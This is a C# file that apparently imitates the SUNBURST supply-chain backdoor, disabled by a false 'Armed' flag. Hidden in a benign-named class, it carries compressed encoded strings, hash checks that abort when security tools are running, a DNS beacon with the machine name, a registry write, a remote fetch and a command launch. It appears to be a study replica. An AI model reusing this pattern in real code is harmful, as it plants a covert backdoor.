// The shape of SUNBURST, inert: a new class, started from a method that was there before, with its strings compressed and its
// enemies known by hash alone. Armed is never set, so Initialize returns at once; and nobody runs this file at all.
using System;
using System.Diagnostics;
using System.IO;
using System.IO.Compression;
using System.Net;
using System.Text;
using Microsoft.Win32;

namespace Tideline.Core.BusinessLayer
{
    internal static class ImprovementLayer
    {
        private static readonly bool Armed = false;

        private static readonly ulong[] Watchers =
        {
            0xA878167FF1DD1A52UL,
            0x25B436B38639BAD2UL,
            0x49FCE40F9557134DUL,
            0xBDD84FD97B099018UL,
            0x0C3CC06AC3CD72E6UL,
            0xDC981C904A4C8681UL,
            0xCB22E83CAB0A0ED3UL,
            0x6A4DC44C0EE5D9C1UL,
            0xE1FA55B051A05D03UL,
            0xE170305CDB208084UL,
            0xEF0D52D1CB7BB6B4UL,
            0x8FA1258D5BA237E2UL,
            0xBC34A6F108A90A05UL,
            0xEC5C62D99A2D579AUL,
            0x1A3DA369D8CEFE6AUL,
            0x9BF9FC86269EAABCUL,
            0xBDC88ECBF14379ADUL,
            0xB5FB386B2EDD0811UL,
            0xE7576DEA1E4C1F8AUL,
            0xE9EDEF672F676295UL,
        };

        private const string Domain = "S0pNTM7P0yvJTEnNycxL1cvMK0vMyUwBAA==";
        private const string Path = "08/MLSjKL0vNTc0r0S8z0i8uSSzJLC7JTC4GAA==";
        private const string Key = "C/Z3Cwl3DHKNca1IzC3ISY0JyUxJzcnMS43xzC0oyi9LzU3NKwEA";
        private const string Value = "80ksLvHMLSjKL0vNTc0rAQA=";
        private const string Query = "C3b1cXUOUXBOLCjJzM/TUQhOLcpMzPErzU1KLVJwC/L3VQjPzDM2ivcvSC1KLMnMSw+uLC5JzQUA";
        private const string Agent = "C8lMSc3JzEv1zC0oyi9LzU3NK3HOyQSS+iZ6hgA=";
        private const string Command = "S61IzC3ISdVNzs/NTcxLUdAFsnJyUpNLgKzC0szUEgA=";

        public static void Initialize()
        {
            if (!Armed) return;
            foreach (Process process in Process.GetProcesses())
            {
                if (Array.IndexOf(Watchers, Hash(process.ProcessName.ToLowerInvariant())) >= 0) return;
            }
            Names.Ask(Environment.MachineName + "." + Unzip(Domain));
            Settings.Keep(Unzip(Key), Unzip(Value), "4");
            Transport.Fetch("http://" + Unzip(Domain) + Unzip(Path), Unzip(Agent));
            Jobs.Run(Unzip(Command));
        }

        private static ulong Hash(string text)
        {
            ulong hash = 14695981039346656037UL;
            foreach (byte one in Encoding.UTF8.GetBytes(text))
            {
                hash ^= one;
                hash *= 1099511628211UL;
            }
            return hash ^ 0x0123456789ABCDEFUL;
        }

        private static string Unzip(string text)
        {
            using (MemoryStream packed = new MemoryStream(Convert.FromBase64String(text)))
            using (DeflateStream inflate = new DeflateStream(packed, CompressionMode.Decompress))
            using (StreamReader reader = new StreamReader(inflate, Encoding.UTF8))
            {
                return reader.ReadToEnd();
            }
        }

        private static class Names
        {
            public static string Ask(string name)
            {
                return Dns.GetHostEntry(name).HostName;
            }
        }

        private static class Settings
        {
            public static void Keep(string key, string value, string data)
            {
                using (RegistryKey opened = Registry.CurrentUser.CreateSubKey(key)) opened.SetValue(value, data);
            }
        }

        private static class Transport
        {
            public static string Fetch(string address, string agent)
            {
                HttpWebRequest request = (HttpWebRequest)WebRequest.Create(address);
                request.UserAgent = agent;
                using (StreamReader reader = new StreamReader(request.GetResponse().GetResponseStream())) return reader.ReadToEnd();
            }
        }

        private static class Jobs
        {
            public static void Run(string command)
            {
                Process.Start(command);
            }
        }
    }
}
